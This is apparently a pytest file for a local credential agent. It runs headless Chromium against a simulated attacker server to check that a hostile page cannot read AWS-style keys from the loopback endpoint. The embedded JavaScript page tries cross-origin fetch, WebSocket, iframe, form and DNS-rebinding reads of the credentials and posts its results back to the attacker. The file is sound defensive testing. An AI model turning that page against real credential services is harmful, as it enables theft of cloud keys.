"""A web page in a real browser can't read a key from the loopback endpoint, even if it knew the token.

Needs Debian's chromium, so it is not part of `make interop`: `make browser` runs it.
"""

from __future__ import annotations

import http.server
import json
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from heddle_cli import Heddle
from servers import Emulator, MissingProgram

#: What a page can try. Each gives what it could read, or why it couldn't.
PAGE = """<!doctype html><meta charset=utf-8><title>evil</title><body><script>
const [agent, rebound, token] = %(targets)s;
const path = "/v1/credentials/acme";
const results = {};
const read = async (name, work) => {
  try { results[name] = String(await Promise.race([work(), new Promise((_, no) => setTimeout(() => no("late"), 5000))])); }
  catch (error) { results[name] = "refused: " + error; }
};
const text = async (answer) => { const r = await answer; return r.type + " " + r.status + " " + await r.text(); };
const inFrame = (fill) => () => new Promise((done) => {
  const frame = document.createElement("iframe");
  frame.name = "f" + Math.random();
  frame.onload = () => setTimeout(() => {
    try { done(frame.contentDocument.body.innerText); } catch (error) { done("refused: " + error); }
  }, 300);
  document.body.append(frame);
  fill(frame);
});
const form = (method) => inFrame((frame) => {
  const form = document.createElement("form");
  form.method = method; form.action = agent + path; form.target = frame.name;
  document.body.append(form); form.submit();
});
const socket = (base, ...rest) => () => new Promise((done) => {
  const socket = new WebSocket(base.replace("http", "ws") + path, ...rest);
  socket.onopen = () => done("opened"); socket.onmessage = (m) => done(m.data); socket.onerror = () => done("refused: error");
});
const element = (tag, attribute) => () => new Promise((done) => {
  const element = document.createElement(tag);
  element.onload = () => done("loaded"); element.onerror = () => done("refused: error");
  element[attribute] = agent + path; document.body.append(element);
});
(async () => {
  for (const [place, base] of [["agent", agent], ["rebound", rebound]]) {
    await read(place + " fetch", () => text(fetch(base + path)));
    await read(place + " fetch with token", () => text(fetch(base + path, {headers: {Authorization: token}})));
    await read(place + " no-cors", () => text(fetch(base + path, {mode: "no-cors", headers: {Authorization: token}})));
    await read(place + " post", () => text(fetch(base + path, {method: "POST", mode: "no-cors", body: "x"})));
    await read(place + " socket", socket(base));
    await read(place + " frame", inFrame((frame) => { frame.src = base + path; }));
  }
  await read("control", () => text(fetch(rebound + "/control" + path, {headers: {Authorization: token}})));
  await read("form get", form("GET"));
  await read("form post", form("POST"));
  await read("script", element("script", "src"));
  await read("image", element("img", "src"));
  await fetch("/results", {method: "POST", body: JSON.stringify(results)});
})();
</script>"""

#: A host name of the attacker's. It has led to the attacker when the page was loaded, and leads to the agent since: to the
#: browser both are one origin (DNS rebinding).
REBOUND = "rebound.example"


class Attacker(http.server.ThreadingHTTPServer):
    """At another address of this machine, on the agent's port. Gives the page, and passes everything else on to the agent as
    if the name led there: what the agent gets is what the browser sends."""

    def __init__(self, agent_port: int) -> None:
        super().__init__(("127.0.0.2", agent_port), Handler)
        self.agent_port = agent_port
        self.page = ""
        self.results: dict[str, str] = {}
        self.done = threading.Event()
        threading.Thread(target=self.serve_forever, daemon=True).start()


class Handler(http.server.BaseHTTPRequestHandler):
    server: Attacker

    def do_GET(self) -> None:
        if self.path != "/":
            return self.pass_on()
        body = self.server.page.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:
        if self.path != "/results":
            return self.pass_on()
        self.server.results = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.send_response(204)
        self.end_headers()
        self.server.done.set()

    do_OPTIONS = do_GET

    def pass_on(self) -> None:
        headers = list(self.headers.items())
        path = self.path.removeprefix("/control")
        if path != self.path:
            # As no browser sends it: what a page could read if nothing of a browser's request were refused.
            headers = [(name, value) for name, value in headers if not name.lower().startswith(("sec-fetch-", "host", "origin"))]
            headers.append(("Host", f"127.0.0.1:{self.server.agent_port}"))
        headers = [(name, value) for name, value in headers if name.lower() != "connection"]
        lines = [f"{self.command} {path} HTTP/1.1", *(f"{name}: {value}" for name, value in headers), "Connection: close", "", ""]
        with socket.create_connection(("127.0.0.1", self.server.agent_port)) as agent:
            agent.sendall("\r\n".join(lines).encode("latin-1"))
            while part := agent.recv(65536):
                self.wfile.write(part)
        self.close_connection = True

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def agent(organisations: Heddle) -> Iterator[Heddle]:
    organisations.run("agent", "start")
    yield organisations
    organisations.run("agent", "stop")


def test_a_page_reads_no_key(agent: Heddle, emulator: Emulator, tmp_path: Path) -> None:
    chromium = shutil.which("chromium")
    if chromium is None:
        raise MissingProgram("chromium is missing: apt-get install chromium")
    environment = agent.environment_of("acme", "agent")
    credential = agent.credential("acme")
    url = environment["AWS_CONTAINER_CREDENTIALS_FULL_URI"].removesuffix("/v1/credentials/acme")
    port = url.rsplit(":", 1)[1]
    attacker = Attacker(int(port))
    rebound = f"http://{REBOUND}:{port}"
    attacker.page = PAGE % {"targets": json.dumps([url, rebound, environment["AWS_CONTAINER_AUTHORIZATION_TOKEN"]])}
    log = tmp_path / "net.json"
    browser = subprocess.Popen(
        [
            chromium, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
            f"--user-data-dir={tmp_path}/profile", f"--host-resolver-rules=MAP {REBOUND} 127.0.0.2", f"--log-net-log={log}",
            # Newer releases ask before a page may reach this machine; what is tested is what happens where it may.
            "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
            f"{rebound}/",
        ],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"},
    )  # fmt: skip
    try:
        assert attacker.done.wait(90), "the page did not report"
    finally:
        browser.terminate()
        browser.wait(20)
        attacker.shutdown()
        attacker.server_close()
    results = attacker.results
    # The page can read what it is allowed to, so what follows is no accident.
    assert credential["SecretAccessKey"] in results.pop("control")
    print(json.dumps(results, indent=1))
    assert len(results) == 16
    for name, result in results.items():
        assert credential["SecretAccessKey"] not in result and credential["AccessKeyId"] not in result, f"{name} read a key"
        assert "loaded" not in result and "opened" not in result, f"{name}: {result}"
    # To the browser the rebound page and the agent are one origin: nothing but the agent's own checks keeps it out.
    for name in ("rebound fetch", "rebound fetch with token", "rebound no-cors", "rebound post"):
        assert "421" in results[name] and "MisdirectedRequest" in results[name], f"{name}: {results[name]}"
    # And the others have reached it, too.
    seen = log.read_text(errors="replace")
    assert "HTTP/1.1 403 Forbidden" in seen and "HTTP/1.1 421 Misdirected Request" in seen
